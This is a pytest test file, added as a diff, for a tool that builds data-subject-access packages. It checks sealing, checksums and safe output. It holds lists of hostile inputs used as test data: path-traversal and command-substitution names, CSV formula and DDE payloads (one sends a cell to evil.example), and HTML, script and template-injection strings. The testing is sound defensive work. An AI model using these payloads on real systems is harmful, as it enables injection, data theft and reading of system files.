@@ -1,0 +1,445 @@
+"""The access package: what is in it, that it harms nobody who opens it, and that only its link opens it on disk."""
+
+import csv
+import datetime as dt
+import hashlib
+import io
+import json
+import os
+import signal
+import subprocess
+import sys
+import tracemalloc
+import zipfile
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+from uuid import UUID
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot.connectors import Table
+from bot.errors import Refused
+from bot.package import Packer, Sheet
+from bot.package.parts import guarded
+from bot.sandbox import company as people
+from tests.fixtures.company import CompanyDatabase
+
+MADE = dt.datetime(2026, 11, 22, 10, 0, tzinfo=dt.UTC)
+ABOUT: dict[str, Any] = {
+    "ref": "DPE-2026-0001",
+    "received_on": dt.date(2026, 11, 20),
+    "labels": {"server": "our internal server", "zoho": "Zoho CRM, our customer register"},
+    "company": {"name": "Halltal Software AG", "address": ["Werkgasse 7", "8400 Winterthur"], "email": "info@halltal.example"},
+    "policy": {
+        "categories": [{"name": "Licences", "purposes": ["to switch them on", "to renew them"], "retention": "two years", "source": "you"}],
+        "recipients": [{"name": "Treuhand Beispiel AG", "country": "Switzerland", "categories": ["Invoices"], "safeguard": ""}],
+        "authorities": [{"name": "The Commissioner", "of": "people in Switzerland", "site": "https://authority.example"}],
+    },
+}  # fmt: skip
+
+
+@pytest.fixture
+def packer(tmp_path: Path) -> Packer:
+    return Packer(tmp_path / "packages")
+
+
+def table(rows: list[tuple[Any, ...]], columns: tuple[str, ...] = ("a", "b"), name: str = "licence", **more: Any) -> Table:
+    return Table(name, "Licences", "", "", columns, tuple(rows), more.pop("labels", {"a": "First"}), **more)
+
+
+def opened(packer: Packer, tables: dict[str, list[Any]], about: dict[str, Any] = ABOUT) -> dict[str, bytes]:
+    """Name in the archive → content."""
+    with zipfile.ZipFile(io.BytesIO(packer.pack(tables, about, MADE))) as archive:
+        assert archive.testzip() is None
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+# -- what is in it ------------------------------------------------------------------------------------------------
+
+
+def test_a_package_has_the_page_the_data_the_tables_and_the_checksums(packer: Packer):
+    """Every file is named in checksums.txt with its SHA-256; the page comes first."""
+    files = opened(packer, {"server": [table([(1, b"\x89PNG picture")])], "zoho": []})
+    assert list(files) == [
+        "START-HERE.html", "data/FORMAT.txt", "data/server/licence.json", "tables/server-licence.csv",
+        "files/server-licence-1-2.png", "checksums.txt",
+    ]  # fmt: skip
+    sums = dict(reversed(line.split("  ")) for line in files["checksums.txt"].decode().splitlines())  # type: ignore[misc]
+    assert sums == {
+        name: hashlib.sha256(content).hexdigest() for name, content in files.items() if name != "checksums.txt"
+    }
+
+
+def test_the_page_says_what_where_why_how_long_and_from_whom(packer: Packer):
+    """Each table with its category, purpose, retention, source and explained columns; policy fills what is not said."""
+    held = table([(1, "x")], label="Licences of yours", withheld={"Your password": "a secret"})
+    page = opened(packer, {"server": [held], "zoho": []})["START-HERE.html"].decode()
+    for words in (
+        "Halltal Software AG", "DPE-2026-0001", "20\u00a0November\u00a02026", "Licences of yours", "to switch them on; to renew them",
+        "two years", "From our internal server", "First", "Not in this copy: Your password. Why: a secret.",
+        "Zoho CRM, our customer register", "found nothing about you", "Treuhand Beispiel AG", "The Commissioner",
+    ):  # fmt: skip
+        assert words in page, words
+
+
+def test_a_person_of_whom_nothing_is_held_reads_so(packer: Packer):
+    """All systems are named, and that nothing was found there."""
+    page = opened(packer, {"server": [], "zoho": [table([])]})["START-HERE.html"].decode()
+    assert "We found nothing about you in any system we searched." in page
+    assert "our internal server" in page
+    assert "Zoho CRM, our customer register" in page
+
+
+def test_nothing_but_the_tables_is_needed(packer: Packer):
+    """Without company, policy and reference the package is still whole."""
+    assert "Your data" in opened(packer, {"server": [table([(1, 2)])]}, {})["START-HERE.html"].decode()
+
+
+def test_long_tables_and_long_values_are_cut_on_the_page_and_whole_in_the_files(packer: Packer):
+    """The page stays readable and says what it leaves out."""
+    rows = [(number, "z" * 10_000 if number == 0 else "short") for number in range(500)]
+    files = opened(packer, {"server": [table(rows)]})
+    page = files["START-HERE.html"].decode()
+    assert "The first 200 of 500 records." in page
+    assert "and 6000 characters more" in page
+    assert len(json.loads(files["data/server/licence.json"])["rows"]) == 500
+    assert len(files["tables/server-licence.csv"].decode("utf-8-sig").splitlines()) == 501
+
+
+EXACT = [
+    (None, None), (True, True), (0, 0), (-7, -7), (2**63, 2**63), (10**40, 10**40), (0.1, 0.1), (1e300, 1e300),
+    (float("inf"), "inf"), (Decimal("249.00"), "249.00"), (Decimal("1E+3"), "1E+3"), (Decimal("NaN"), "NaN"),
+    ("", ""), ("=1+1", "=1+1"), ("Zoë \U0001f389", "Zoë \U0001f389"), ("\0\x1b", "\0\x1b"), ("\udcff", "\udcff"),
+    ("</script>", "</script>"), (dt.date(2026, 2, 28), "2026-02-28"),
+    (dt.datetime(2026, 2, 28, 1, 2, 3, 4), "2026-02-28 01:02:03.000004"),  # noqa: DTZ001
+    (dt.datetime(2026, 2, 28, tzinfo=dt.UTC), "2026-02-28 00:00:00+00:00"), (dt.time(23, 59), "23:59:00"),
+    (dt.timedelta(days=1), "1 day, 0:00:00"), (UUID(int=7), str(UUID(int=7))), ([1, [Decimal("2.50")]], [1, ["2.50"]]),
+    ({"k": {"n": None}}, {"k": {"n": None}}),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("value", "kept"), EXACT, ids=range(len(EXACT)))
+def test_json_is_exact(packer: Packer, value: object, kept: object):
+    """Type by type: what JSON knows stays what it is, the rest is text as documented. Freezing first changes nothing."""
+    (thawed,) = packer.thaw(packer.freeze([table([(value, 1)])]))
+    (row,) = json.loads(opened(packer, {"server": [thawed]})["data/server/licence.json"])["rows"]
+    assert row == {"a": kept, "b": 1}
+    assert type(row["a"]) is type(kept)
+
+
+def test_bytes_become_files_named_by_their_kind(packer: Packer):
+    """The JSON names file, size and checksum; the name comes from us, never from the content."""
+    pictures = [(b"\x89PNG\r\n", b"\xff\xd8\xff\xe0"), (b"%PDF-1.7", b"MZ evil.exe"), (b"", None)]
+    files = opened(packer, {"server": [table(pictures)]})
+    rows = json.loads(files["data/server/licence.json"])["rows"]
+    assert [Path(row["a"]["file"]).suffix for row in rows] == [".png", ".pdf", ".bin"]
+    assert files[rows[1]["b"]["file"]] == b"MZ evil.exe"
+    assert rows[1]["b"]["sha256"] == hashlib.sha256(b"MZ evil.exe").hexdigest()
+    assert rows[1]["b"]["file"].endswith(".bin")
+
+
+scalars = st.one_of(
+    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(st.characters(exclude_categories=())),
+    st.binary(), st.decimals(allow_nan=False), st.dates(), st.datetimes(), st.times(), st.timedeltas(), st.uuids(),
+)  # fmt: skip
+anything = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3), max_leaves=6)
+
+
+@given(st.lists(st.tuples(anything, anything), max_size=4))
+def test_what_is_thawed_is_what_was_frozen(rows: list[tuple[Any, ...]]):
+    """Every value with its type, every word about the table."""
+    packer = Packer.__new__(Packer)
+    held = table(rows, source="you", label="Licences", withheld={"x": "y"})
+    (thawed,) = packer.thaw(packer.freeze([held]))
+    assert thawed == Sheet(**vars(held))
+    assert repr(thawed.rows) == repr(held.rows).replace(", fold=1", "")  # the second 02:30 of a night in autumn
+
+
+def test_a_value_of_an_unknown_kind_is_not_packed_silently(packer: Packer):
+    """Rather no package than a lossy one."""
+    with pytest.raises(TypeError, match="cannot carry a object"):
+        packer.freeze([table([(object(), 1)])])
+
+
+# -- names (T18) --------------------------------------------------------------------------------------------------
+
+NAMES = [
+    "../../etc/passwd", "..", ".", "", "/etc/passwd", "C:\\Windows\\win.ini", "..\\..\\x", "con", "NUL", "lpt1", "COM1.txt",
+    "a" * 300, "\u202egnp.exe", "licence", "LICENCE", "licence\0.html", "START-HERE.html", "a/b", "a\nb", " ", "~root",
+    "$(reboot)", "лицензия", "licence-2", "%2e%2e%2f",
+]  # fmt: skip
+
+
+def test_hostile_names_stay_inside_and_apart(packer: Packer, tmp_path: Path):
+    """25 hostile table names: plain names inside the folder, each once, also where case does not count."""
+    tables = [table([(1, b"x")], name=name) for name in NAMES]
+    content = packer.pack({"../server": tables, "con": tables[:2]}, ABOUT, MADE)
+    target = tmp_path / "out"
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        names = archive.namelist()
+        assert len({name.lower() for name in names}) == len(names)
+        assert not [name for name in names if not set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-_./STARHEFOM")]
+        assert not [part for name in names for part in name.lower().split("/") if part.split(".")[0] in {"con", "nul", "lpt1", ""}]
+        archive.extractall(target)
+    inside = [path for path in target.rglob("*") if path.is_file()]
+    assert len(inside) == len(names)
+    assert not [path for path in tmp_path.rglob("*") if path.is_file() and target not in path.parents]
+
+
+# -- tables for a spreadsheet (T19) -------------------------------------------------------------------------------
+
+FORMULAS = [
+    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1",
+    " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "|calc", "%0A=1", "-2+3+cmd|' /C calc'!D2",
+    "=IMPORTXML(A1)", "=1;2", '="a,b"', "=1\r\n=2", "+41 44 555 01 01", "-5", "-", "=", "@", "+", "  \t=1", "\u3000=1",
+    "==1", "=-1", "+=1", "=\0", '=""', "='x'", "=DDE(1)", "\u2060=1",
+]  # fmt: skip
+
+
+def test_no_cell_of_a_table_is_a_formula(packer: Packer):
+    """40 payloads: every text cell is quoted and guarded, nothing breaks out of its cell, the JSON stays exact."""
+    assert len(FORMULAS) == 40
+    files = opened(packer, {"server": [table([(payload, 'x","=1') for payload in FORMULAS])]})
+    raw = files["tables/server-licence.csv"].decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    assert len(rows) == 41
+    for cells, payload in zip(rows[1:], FORMULAS, strict=True):
+        assert cells[0] == "'" + payload.replace("\0", "\ufffd"), repr(payload)
+        assert cells[1] == 'x","=1'
+    kept = [row["a"] for row in json.loads(files["data/server/licence.json"])["rows"]]
+    assert kept == FORMULAS
+
+
+def test_numbers_stay_numbers_in_a_table(packer: Packer):
+    """Negative ones too; flags, dates and empty values read as what they are."""
+    values = [-5, 2**63, -0.5, Decimal("-249.00"), True, None, dt.date(2026, 11, 22), "plain", [1, "=2"]]
+    raw = opened(packer, {"server": [table([(value, 1) for value in values])]})["tables/server-licence.csv"]
+    cells = [line.rsplit(",", 1)[0] for line in raw.decode("utf-8-sig").split("\r\n")[1:-1]]
+    assert cells == [
+        "-5", "9223372036854775808", "-0.5", "-249.00", '"yes"', "", '"2026-11-22"', '"plain"', '"[1, ""=2""]"',
+    ]  # fmt: skip
+
+
+def test_a_heading_is_guarded_too(packer: Packer):
+    """Words of a column may come from the far side."""
+    raw = opened(packer, {"zoho": [table([(1, 2)], labels={"a": "=1+1"})]})["tables/zoho-licence.csv"]
+    assert raw.decode("utf-8-sig").splitlines()[0] == '"\'=1+1","b"'
+
+
+@given(st.text())
+def test_a_guarded_text_never_begins_like_a_formula(text: str):
+    """And loses nothing: one ' more, or as it was."""
+    assert guarded(text) in {text, f"'{text}"}
+    assert guarded(text).lstrip(" \u00a0\u200b\ufeff")[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+
+
+# -- the page in a browser (T20) ----------------------------------------------------------------------------------
+
+INJECTIONS = [
+    f"{quote}{end}{attack}"
+    for quote in ("", "'", '"', "`")
+    for end in ("", ">", "-->", "</style>")
+    for attack in (
+        "<script>alert(1)</script>", "<img src=https://evil.example/x onerror=alert(1)>", "<svg onload=alert(1)>",
+        "<iframe src=https://evil.example></iframe><meta http-equiv=refresh content='0;url=https://evil.example'>",
+        "<link rel=stylesheet href=https://evil.example/x><style>@import 'https://evil.example';body{background:url(https://evil.example)}</style>",
+    )
+] + ["javascript:alert(1)", "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "\u202e<b>", "]]><x>"]  # fmt: skip
+
+
+@pytest.fixture
+def browser():
+    """Chromium, closed to the network by nothing but the page itself."""
+    playwright = pytest.importorskip("playwright.sync_api")
+    chromium = next((path for path in ("/usr/bin/chromium", "/usr/bin/chromium-browser") if Path(path).exists()), None)
+    if chromium is None:
+        pytest.skip("Chromium is not installed")
+    with playwright.sync_playwright() as started:
+        opened_browser = started.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
+        yield opened_browser
+        opened_browser.close()
+
+
+@pytest.mark.browser
+def test_the_page_asks_for_nothing_and_runs_nothing(packer: Packer, tmp_path: Path, browser: Any):
+    """Over 80 payloads in every place foreign text can stand: 0 requests, 0 dialogs, 0 elements of theirs."""
+    assert len(INJECTIONS) >= 80
+    hostile = [
+        table([(payload, payload)], labels={"a": payload, "b": payload}, label=payload, source=payload, name=payload,
+              withheld={payload: payload})
+        for payload in INJECTIONS
+    ]  # fmt: skip
+    many = table([(payload, index) for index, payload in enumerate(INJECTIONS)], label="many")
+    name = INJECTIONS[0]
+    about = {"ref": name, "labels": {"server": name}, "company": {"name": name, "address": [name], "email": name}, "policy": {}}
+    (tmp_path / "START-HERE.html").write_bytes(opened(packer, {"server": [*hostile, many]}, about)["START-HERE.html"])
+    page = browser.new_page()
+    asked, dialogs = [], []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.goto((tmp_path / "START-HERE.html").as_uri(), wait_until="networkidle")
+    assert [url for url in asked if not url.endswith("START-HERE.html")] == []
+    assert dialogs == []
+    assert page.locator("script, img, svg, iframe, link, object, embed, form, base").count() == 0
+    assert page.locator("style").count() == 1
+    assert page.locator("meta[http-equiv=refresh]").count() == 0
+    assert page.locator("td .value").first.inner_text() == INJECTIONS[0]
+    assert page.evaluate("getComputedStyle(document.querySelector('h1')).fontWeight") == "680", "our own style is let through"
+    assert "49" not in page.locator("td .value").nth(2 * INJECTIONS.index("{{ 7 * 7 }}")).inner_text()
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("width", [320, 1200])
+def test_the_page_is_accessible_and_fits(packer: Packer, company_file: CompanyDatabase, tmp_path: Path, browser: Any, width: int):
+    """A real person's package: no violation found by axe, nothing wider than the screen."""
+    from axe_playwright_python.sync_playwright import Axe
+
+    held = list(company_file.connect().export(company_file.one(people.MARA)))
+    (tmp_path / "START-HERE.html").write_bytes(opened(packer, {"server": held, "zoho": []})["START-HERE.html"])
+    for scheme in ("light", "dark"):
+        page = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, bypass_csp=True).new_page()
+        page.goto((tmp_path / "START-HERE.html").as_uri())
+        found = Axe().run(page)
+        assert found.violations_count == 0, found.generate_report()
+        assert page.evaluate("document.documentElement.scrollWidth") <= width
+
+
+# -- on disk (T28) ------------------------------------------------------------------------------------------------
+
+
+def test_only_the_token_opens_a_package(packer: Packer, tmp_path: Path):
+    """Sealed and opened; another token, another name or no token do not."""
+    token, digest = packer.seal(b"content", "DPE-2026-0001-1")
+    assert packer.unseal("DPE-2026-0001-1", token) == b"content"
+    assert digest == hashlib.sha256(token.encode()).hexdigest()
+    assert len(token) >= 43  # 256 bits
+    for other in ("", token[:-1], token.swapcase(), digest):
+        with pytest.raises(Refused):
+            packer.unseal("DPE-2026-0001-1", other)
+    (file,) = (tmp_path / "packages").iterdir()
+    file.rename(file.with_name("DPE-2026-0002-1.package"))
+    with pytest.raises(Refused):
+        packer.unseal("DPE-2026-0002-1", token)
+
+
+@pytest.mark.parametrize("size", [0, 1, (1 << 20) - 1, 1 << 20, (1 << 20) + 1, 5 << 20])
+def test_any_size_comes_back(packer: Packer, size: int):
+    """At, below and above the border of a chunk."""
+    content = os.urandom(size)
+    token, _ = packer.seal(content, "p")
+    assert packer.unseal("p", token) == content
+
+
+def test_a_changed_or_cut_file_does_not_open(packer: Packer, tmp_path: Path):
+    """Every byte counts, chunks cannot be dropped, swapped or added."""
+    chunk = (1 << 20) + 16
+    token, _ = packer.seal(os.urandom(3 << 20), "p")
+    (file,) = (tmp_path / "packages").iterdir()
+    whole = file.read_bytes()
+    head = len(whole) - 3 * chunk
+    body = [whole[head + i * chunk : head + (i + 1) * chunk] for i in range(3)]
+    for broken in (
+        b"", whole[:-1], whole + b"\0", whole[:head], whole[: head + chunk], whole[:head] + body[1] + body[0] + body[2],
+        whole[:head] + body[0] + body[2], whole + body[2], *(flipped(whole, at) for at in (0, head, head + 7, len(whole) - 1)),
+    ):  # fmt: skip
+        file.write_bytes(broken)
+        with pytest.raises(Refused):
+            packer.unseal("p", token)
+
+
+def flipped(content: bytes, at: int) -> bytes:
+    return content[:at] + bytes([content[at] ^ 1]) + content[at + 1 :]
+
+
+def test_disk_alone_gives_nothing_away(packer: Packer, tmp_path: Path):
+    """Neither content nor token stands in the file; folder and file are closed to others."""
+    content = opened_bytes = packer.pack({"server": [table([("CANARY-Mara", 1)])]}, ABOUT, MADE)
+    token, _ = packer.seal(content, "p")
+    (file,) = (tmp_path / "packages").iterdir()
+    raw = file.read_bytes()
+    assert b"CANARY" not in raw
+    assert b"START-HERE" not in raw
+    assert token.encode() not in raw
+    assert opened_bytes[:64] not in raw
+    assert file.stat().st_mode & 0o077 == 0
+    assert file.parent.stat().st_mode & 0o077 == 0
+
+
+def test_sealed_again_the_older_link_is_dead(packer: Packer):
+    """One file of a name; the token of the last one opens it."""
+    old, _ = packer.seal(b"old", "p")
+    new, _ = packer.seal(b"new", "p")
+    assert old != new
+    assert packer.unseal("p", new) == b"new"
+    with pytest.raises(Refused):
+        packer.unseal("p", old)
+
+
+def test_removed_is_gone(packer: Packer, tmp_path: Path):
+    """Twice is no error; what is gone is Refused."""
+    token, _ = packer.seal(b"x", "p")
+    packer.remove("p")
+    packer.remove("p")
+    assert list((tmp_path / "packages").iterdir()) == []
+    with pytest.raises(Refused, match="no such package"):
+        packer.unseal("p", token)
+
+
+@pytest.mark.parametrize("name", ["../p", "", ".p", "a/b", "p\0", "p" * 200, "-p"])
+def test_a_name_cannot_leave_the_folder(packer: Packer, name: str):
+    """Names of packages are ours; another kind is a mistake in the program."""
+    for ask in (lambda: packer.seal(b"x", name), lambda: packer.unseal(name, "t"), lambda: packer.remove(name)):
+        with pytest.raises(ValueError, match="made of letters"):
+            ask()
+
+
+_SEAL = "import sys; from pathlib import Path; from bot.package import Packer; p = Packer(Path(sys.argv[1])); p.seal(p.pack({}, {}, __import__('datetime').datetime(2026, 11, 22)), 'p')"
+
+
+@pytest.mark.parametrize(
+    ("point", "left"), [("opened", []), ("packed", []), ("sealed", ["p.package.part"]), ("renamed", ["p.package"])]
+)
+def test_killed_while_sealing_there_is_no_half_package(tmp_path: Path, point: str, left: list[str]):
+    """kill -9 at each point: a package or none; the half file of a dead writer goes at the next start."""
+    killed = subprocess.run(
+        [sys.executable, "-c", _SEAL, str(tmp_path / "p")], env={**os.environ, "SUBJECTLINE_CRASH_AT": f"package.{point}"},
+        timeout=60, check=False, capture_output=True, text=True,
+    )  # fmt: skip
+    assert killed.returncode == -signal.SIGKILL, killed.stderr
+    assert [path.name for path in (tmp_path / "p").iterdir()] == left
+    packer = Packer(tmp_path / "p")
+    assert [path.name for path in (tmp_path / "p").iterdir()] == [name for name in left if not name.endswith(".part")]
+    token, _ = packer.seal(b"again", "p")
+    assert packer.unseal("p", token) == b"again"
+
+
+def test_a_living_writer_keeps_its_half_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """Another process that starts meanwhile leaves it alone."""
+    seen = []
+
+    def meanwhile(point: str) -> None:
+        if point == "package.sealed":
+            Packer(tmp_path / "p")
+            seen.append([path.name for path in (tmp_path / "p").iterdir()])
+
+    monkeypatch.setattr("bot.package.vault.checkpoint", meanwhile)
+    packer = Packer(tmp_path / "p")
+    token, _ = packer.seal(b"x", "p")
+    assert seen == [["p.package.part"]]
+    assert packer.unseal("p", token) == b"x"
+
+
+def test_sixty_four_megabytes_fit(packer: Packer):
+    """A picture of 64 MB: frozen, packed, sealed, opened, within half a gigabyte."""
+    picture = os.urandom(64 << 20)
+    tracemalloc.start()
+    thawed = packer.thaw(packer.freeze([table([(1, picture)])]))
+    content = packer.pack({"server": thawed}, ABOUT, MADE)
+    token, _ = packer.seal(content, "p")
+    assert packer.unseal("p", token) == content
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert peak < 448 << 20, f"{peak >> 20} MB"
